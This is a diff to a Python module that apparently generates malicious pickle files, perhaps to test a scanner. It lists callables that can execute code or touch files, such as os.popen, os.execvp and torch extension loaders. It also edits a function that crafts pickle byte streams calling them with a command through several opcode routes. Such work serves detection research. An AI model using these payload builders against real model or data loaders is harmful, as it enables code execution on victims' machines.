@@ -64,7 +64,7 @@ _PUBLISHED: dict[str, str] = {
     "arXiv 2508.19774 and the libraries' own sources": (
         "torch.utils.cpp_extension.load torch.utils.cpp_extension.load_inline torch.utils.model_zoo.load_url "
         "torch.fx.graph_module._forward_from_src torch.fx.graph_module.reduce_graph_module "
-        "torch.fx._symbolic_trace._exec torch.fx.graph_module._exec_with_source torch.jit._script.script "
+        "torch.fx.graph_module._exec_with_source torch.jit._script.script "
         "torch.distributed.elastic.multiprocessing.start_processes torch.distributed.run.main "
         "torch._functorch.aot_autograd.aot_function torch._utils._import_dotted_name torch.multiprocessing.spawn "
         "torch.testing._internal.common_utils.TestCase.runWithPytorchAPIUsageStderr numpy.lib.utils.safe_eval "
@@ -86,7 +86,7 @@ _PUBLISHED: dict[str, str] = {
         "modulefinder.ModuleFinder.run_script rlcompleter.Completer.attr_matches sched.scheduler tabnanny.check "
         "zipapp.create_archive mailcap.findmatch "
         "cgitb.enable xmlrpc.server.SimpleXMLRPCServer "
-        "smtpd.SMTPServer logging.config.listen logging.config.fileConfig concurrent.futures.ProcessPoolExecutor "
+        "smtpd.SMTPServer logging.config.listen logging.config.fileConfig "
         "dbm.dumb.open pathlib.Path.write_text pathlib.Path.unlink io.open codecs.open os.popen os.execvp os.putenv "
         "os.remove os.posix_spawn builtins.input"
     ),
@@ -124,9 +124,10 @@ def _written(path: str, module: str, attribute: str) -> bytes:
         return b"(" + old_name(module, attribute) + f"S'{COMMAND}'\no.".encode()
     if way == 2 and "." not in attribute:
         return stream(old_name(module, attribute), f"(S'{COMMAND}'\ntR".encode(), protocol=2)
-    if way == 3:
+    is_class = attribute.rpartition(".")[2][:1].isupper()
+    if way == 3 and is_class:
         return stream(fetched, arguments, b"\x81")
-    if way == 4:
+    if way == 4 and is_class:
         return stream(fetched, arguments, b"}\x92")
     if way == 5:
         return stream(text(attribute), b"\x940", text(module), b"h\x00\x93", arguments, b"R")
